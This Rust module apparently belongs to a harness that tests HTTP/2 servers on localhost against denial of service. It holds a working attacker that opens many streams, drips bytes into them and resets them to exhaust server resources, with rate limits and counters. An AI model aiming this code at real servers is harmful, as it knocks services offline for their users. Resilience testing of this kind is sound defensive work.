//! An attacker over HTTP/2 with streams that are opened, send a little, and are reset.

use std::{collections::HashMap, io, time::Duration};

use serde::{Deserialize, Serialize};
use tokio::{
    io::Interest,
    net::TcpStream,
    time::{Instant, sleep, sleep_until},
};

use crate::{
    attackers::SharedTally,
    frames::{self, Received},
};

const TICK: Duration = Duration::from_millis(10);

/// The longest time over which the first streams are spread.
const RAMP: Duration = Duration::from_secs(1);

/// The number of unsent bytes from which on no further stream is opened.
const MAX_UNSENT: usize = 1024 * 1024;

/// The number of bytes that a connection may send at first (RFC 9113).
const WINDOW: usize = 65_535;

/// Connections that keep streams open. Each stream is reset after a while. After a reset or a response, a new stream is opened.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub(crate) struct Streams {
    pub(crate) connections: usize,
    /// The number of streams of each connection.
    pub(crate) streams: usize,
    /// The number of bytes that each stream sends at first.
    pub(crate) bytes: usize,
    pub(crate) hold: Duration,
    /// The time after which a stream sends one more byte. `None` if it sends no more.
    pub(crate) drip: Option<Duration>,
    /// The most streams that are opened per second, over all connections.
    pub(crate) max_rate: u32,
}

/// A connection of the attacker.
struct AttackConnection<'a> {
    attack: &'a Streams,
    tally: &'a SharedTally,
    stream: TcpStream,
    /// The bytes that are written but not sent.
    unsent: Vec<u8>,
    /// The bytes that were received but not parsed.
    unparsed: Vec<u8>,
    /// Whether the server's settings have arrived, so that streams can be opened.
    is_open: bool,
    /// The number of bytes that may be sent on the connection.
    window: usize,
    next_id: u32,
    /// The number of streams that may be opened now.
    permits: f64,
    slots: Vec<Slot>,
    /// The slots of the streams that are open.
    by_id: HashMap<u32, usize>,
}

/// A place for one stream at a time.
#[derive(Clone, Copy)]
struct Slot {
    /// `None` if the last stream was answered or reset.
    id: Option<u32>,
    /// The time at which the stream is reset, or the next one opened.
    due_at: Instant,
    next_drip_at: Instant,
}

impl Streams {
    /// Starts a task for each connection.
    pub(crate) fn start(&self, port: u16, tally: &SharedTally) {
        for _ in 0..self.connections {
            let (attack, tally) = (self.clone(), tally.clone());
            tokio::spawn(async move {
                loop {
                    let _ = attack.run_connection(port, &tally).await;
                    tally.lock().lost += 1;
                    sleep(TICK).await;
                }
            });
        }
    }

    async fn run_connection(&self, port: u16, tally: &SharedTally) -> io::Result<()> {
        let stream = TcpStream::connect(("127.0.0.1", port)).await?;
        stream.set_zero_linger()?;
        stream.set_nodelay(true)?;
        AttackConnection::new(self, tally, stream).run().await
    }
}

impl<'a> AttackConnection<'a> {
    fn new(attack: &'a Streams, tally: &'a SharedTally, stream: TcpStream) -> Self {
        // Spread the streams evenly from the beginning.
        let (now, ramp) = (Instant::now(), attack.hold.min(RAMP));
        let due_at = |n: usize| now + ramp.mul_f64(n as f64 / attack.streams as f64);
        let slot = |n| Slot { id: None, due_at: due_at(n), next_drip_at: now };
        Self {
            attack,
            tally,
            stream,
            unsent: frames::PREFACE.to_vec(),
            unparsed: Vec::new(),
            is_open: false,
            window: WINDOW,
            next_id: 1,
            permits: 0.0,
            slots: (0..attack.streams).map(slot).collect(),
            by_id: HashMap::new(),
        }
    }

    /// Attacks until the connection fails.
    async fn run(mut self) -> io::Result<()> {
        let mut tick = Instant::now();
        loop {
            let interest =
                if self.unsent.is_empty() { Interest::READABLE } else { Interest::READABLE | Interest::WRITABLE };
            tokio::select! {
                ready = self.stream.ready(interest) => {
                    let ready = ready?;
                    if ready.is_readable() {
                        self.receive()?;
                    }
                    if ready.is_writable() {
                        self.send()?;
                    }
                }
                () = sleep_until(tick) => {
                    let now = Instant::now();
                    self.tick(now, now - tick + TICK);
                    tick = now + TICK;
                    self.send()?;
                }
            }
        }
    }

    /// Does everything that is due in all slots, `elapsed` after the previous tick.
    fn tick(&mut self, now: Instant, elapsed: Duration) {
        if !self.is_open || self.unsent.len() > MAX_UNSENT {
            return;
        }
        let rate = f64::from(self.attack.max_rate) / self.attack.connections as f64;
        // Permits that are not used in this tick can be used in a later one, up to a limit.
        self.permits = (self.permits + rate * elapsed.as_secs_f64()).min(1.0 + 4.0 * rate * TICK.as_secs_f64());
        // Begin with another slot each time, so that the first slots do not use up all permits.
        let first = self.next_id as usize / 2 % self.slots.len();
        for n in (first..self.slots.len()).chain(0..first) {
            self.tick_slot(n, now);
        }
    }

    /// Does everything that is due in one slot: resets its stream, opens a new one, or sends a byte.
    fn tick_slot(&mut self, n: usize, now: Instant) {
        let Slot { id, due_at, next_drip_at } = self.slots[n];
        if now >= due_at {
            if let Some(id) = id {
                frames::reset(&mut self.unsent, id);
                self.vacate(id, now);
            }
            self.open(n, now);
        } else if let Some((id, drip)) = id.zip(self.attack.drip)
            && now >= next_drip_at
            && self.window > 0
        {
            self.window -= 1;
            frames::data(&mut self.unsent, id, 1);
            self.slots[n].next_drip_at = now + drip;
        }
    }

    /// Opens a stream, if that is allowed now.
    fn open(&mut self, n: usize, now: Instant) {
        let Streams { bytes, hold, drip, .. } = *self.attack;
        if self.permits < 1.0 || self.window < bytes {
            return;
        }
        self.permits -= 1.0;
        self.window -= bytes;
        let id = self.next_id;
        match id {
            1 => frames::first_head(&mut self.unsent, id),
            _ => frames::later_head(&mut self.unsent, id),
        }
        frames::data(&mut self.unsent, id, bytes);
        self.next_id += 2;
        self.by_id.insert(id, n);
        self.slots[n] = Slot { id: Some(id), due_at: now + hold, next_drip_at: now + drip.unwrap_or_default() };
        self.tally.lock().begun += 1;
    }

    /// Frees the slot of a stream. Returns whether the stream had one.
    fn vacate(&mut self, id: u32, now: Instant) -> bool {
        let Some(n) = self.by_id.remove(&id) else { return false };
        self.slots[n] = Slot { id: None, due_at: now, next_drip_at: now };
        true
    }

    fn send(&mut self) -> io::Result<()> {
        while !self.unsent.is_empty() {
            match self.stream.try_write(&self.unsent) {
                Ok(sent) => {
                    self.unsent.drain(..sent);
                    self.tally.lock().bytes += sent as u64;
                }
                Err(error) if error.kind() == io::ErrorKind::WouldBlock => break,
                Err(error) => return Err(error),
            }
        }
        Ok(())
    }

    fn receive(&mut self) -> io::Result<()> {
        let mut buffer = [0; 16 * 1024];
        match self.stream.try_read(&mut buffer) {
            Ok(0) => return Err(io::ErrorKind::UnexpectedEof.into()),
            Ok(length) => self.unparsed.extend_from_slice(&buffer[..length]),
            Err(error) if error.kind() == io::ErrorKind::WouldBlock => return Ok(()),
            Err(error) => return Err(error),
        }
        let mut done = 0;
        while let Some((received, length)) = frames::parse(&self.unparsed[done..]) {
            done += length;
            self.handle_frame(received)?;
        }
        self.unparsed.drain(..done);
        Ok(())
    }

    fn handle_frame(&mut self, received: Received) -> io::Result<()> {
        match received {
            Received::Settings => {
                frames::acknowledge_settings(&mut self.unsent);
                self.is_open = true;
            }
            Received::Ping(payload) => frames::pong(&mut self.unsent, payload),
            Received::Window(more) => self.window += more as usize,
            Received::Answer(id) | Received::Reset(id) => {
                if self.vacate(id, Instant::now()) {
                    // The server still counts the stream until either side resets it.
                    frames::reset(&mut self.unsent, id);
                    self.tally.lock().answered += 1;
                }
            }
            Received::GoAway => return Err(io::ErrorKind::ConnectionAborted.into()),
            Received::Other => {}
        }
        Ok(())
    }
}
